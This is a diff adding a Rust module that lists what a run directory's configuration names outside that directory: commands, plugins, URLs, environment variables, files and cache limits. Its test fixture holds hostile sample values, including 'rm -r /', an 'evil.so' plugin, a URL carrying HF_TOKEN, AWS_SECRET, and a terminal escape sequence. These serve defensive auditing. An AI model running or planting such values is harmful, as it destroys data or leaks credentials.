@@ -1,0 +1,130 @@
+//! What the configuration of another person's run directory names outside of that directory.
+
+use std::path::Path;
+
+use config::{Value, ValueKind};
+use serde_json::Value as Json;
+
+use super::reference;
+use super::schema::DEFAULTS;
+use super::yaml::{Map, child};
+
+/// Keys below which every text is part of a command.
+const COMMANDS: [&str; 3] = ["command", "on_finish", "tools"];
+
+/// The programs, libraries, addresses, environment variables and files that a configuration names, one line each; read
+/// as it is written, with nothing resolved.
+pub(super) fn named_outside(map: &Map) -> Vec<String> {
+    let mut lines = Vec::new();
+    if reference::is_reference(map) {
+        lines.push("a configuration of ROLL's, which no run writes".into());
+    }
+    entries(map, "", &mut lines);
+    lines
+}
+
+fn entries(map: &Map, key: &str, lines: &mut Vec<String>) {
+    let mut names: Vec<&String> = map.keys().collect();
+    names.sort();
+    for name in names {
+        value(&child(key, name.replace('[', ".").replace(']', "")), &map[name], lines);
+    }
+}
+
+fn value(key: &str, value_of_key: &Value, lines: &mut Vec<String>) {
+    match &value_of_key.kind {
+        ValueKind::Table(map) => entries(map, key, lines),
+        ValueKind::Array(items) if items.iter().all(|item| matches!(item.kind, ValueKind::String(_))) => {
+            let words: Vec<String> = items.iter().filter_map(|item| item.clone().into_string().ok()).collect();
+            lines.extend(words.iter().find_map(|word| effect(key, word)).map(|what| line(key, what, &words)));
+        }
+        ValueKind::Array(items) => {
+            items.iter().enumerate().for_each(|(i, item)| value(&child(key, i), item, lines));
+        }
+        ValueKind::String(text) => {
+            lines.extend(effect(key, text).map(|what| line(key, what, std::slice::from_ref(text))));
+        }
+        // A small limit would delete what other runs keep in the user's cache.
+        number if key.ends_with("cache_limit") => lines.extend(match number {
+            ValueKind::U64(limit) if default(key).is_some_and(|default| *default == *limit) => None,
+            limit => Some(format!("{key} deletes cached files beyond {limit} bytes")),
+        }),
+        _ => {}
+    }
+}
+
+fn default(key: &str) -> Option<&'static Json> {
+    DEFAULTS.pointer(&format!("/{}", key.replace('.', "/")))
+}
+
+/// Escaped, as a text may hold characters that change what a terminal shows.
+fn line(key: &str, what: &str, words: &[String]) -> String {
+    let words: Vec<String> = words.iter().map(|word| format!("{word:?}")).collect();
+    format!("{} {what} {}", key.escape_debug(), words.join(" "))
+}
+
+/// What is done with a text at `key`, if it is something outside of the run directory.
+fn effect(key: &str, text: &str) -> Option<&'static str> {
+    let is_below = |names: &[&str]| key.split('.').any(|part| names.contains(&part));
+    let last = key.rsplit('.').find(|part| part.parse::<usize>().is_err()).unwrap_or_default();
+    let is_default = || default(key).is_some_and(|default| default == text);
+    match () {
+        () if text.is_empty() => None,
+        () if is_below(&COMMANDS) => Some("runs"),
+        () if is_below(&["plugins"]) => Some("loads"),
+        () if is_below(&["defaults"]) => Some("reads the configuration"),
+        () if text.contains("${") => Some("reads the environment or another value:"),
+        () if last.ends_with("_env") => Some("sends the environment variable"),
+        () if text.contains("://") || last == "url" => Some("contacts"),
+        () if is_default() => None,
+        () if last == "cache_dir" && !["auto", "none"].contains(&text) => Some("keeps files in"),
+        () if last == "output_dir" => Some("writes to"),
+        // A file, a directory, or a published model; a prompt has spaces, and is no file.
+        () if !text.contains(char::is_whitespace) && text.contains(['/', '\\']) => Some("opens"),
+        () if Path::new(text).exists() => Some("opens"),
+        () => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::yaml::Document;
+    use super::*;
+
+    #[test]
+    fn names_everything_outside_as_it_is_written() {
+        let yaml = "seed: 1\non_finish: [sh, -c, 'touch M']\nplugins: [evil.so]\noutput_dir: runs\nbackend: flex\n\
+                    reward:\n- {name: command, command: [python, r.py], weight: 1}\n\
+                    - {name: http, url: 'http://h/?k=${oc.env:HF_TOKEN}', token_env: AWS_SECRET}\n\
+                    evaluation: {check: [{name: command, command: [\"a\\e[2Kb\"]}], prompts: [{prompt: a man / a cat}]}\n\
+                    algo: {name: x, tools: [{name: t, command: [rm, -r, /]}]}\n\
+                    data: {metadata: /home/a/clips.csv, cache_dir: kept, cache_limit: 0}\nmodel.lora_checkpoint: ../other\n\
+                    env[0].command: [late]\ndefaults: [more]\n";
+        let map = Document::parse(Path::new("config.yaml"), yaml.into()).unwrap().map;
+        let found = named_outside(&map);
+        for line in [
+            r#"on_finish runs "sh" "-c" "touch M""#,
+            r#"plugins loads "evil.so""#,
+            r#"reward.0.command runs "python" "r.py""#,
+            r#"reward.1.url reads the environment or another value: "http://h/?k=${oc.env:HF_TOKEN}""#,
+            r#"reward.1.token_env sends the environment variable "AWS_SECRET""#,
+            r#"evaluation.check.0.command runs "a\u{1b}[2Kb""#,
+            r#"algo.tools.0.command runs "rm" "-r" "/""#,
+            r#"data.metadata opens "/home/a/clips.csv""#,
+            r#"data.cache_dir keeps files in "kept""#,
+            "data.cache_limit deletes cached files beyond 0 bytes",
+            r#"model.lora_checkpoint opens "../other""#,
+            r#"env.0.command runs "late""#,
+            r#"defaults reads the configuration "more""#,
+        ] {
+            assert!(found.iter().any(|found| found == line), "no {line} in {found:#?}");
+        }
+        for harmless in ["seed", "output_dir", "backend", "prompt"] {
+            assert!(!found.iter().any(|line| line.starts_with(harmless) || line.contains(".prompt")), "{found:#?}");
+        }
+        let map = Document::parse(Path::new("config.yaml"), "seed: 1\ndata: {cache_limit: 21474836480}\n".into())
+            .unwrap()
+            .map;
+        assert!(named_outside(&map).is_empty());
+    }
+}
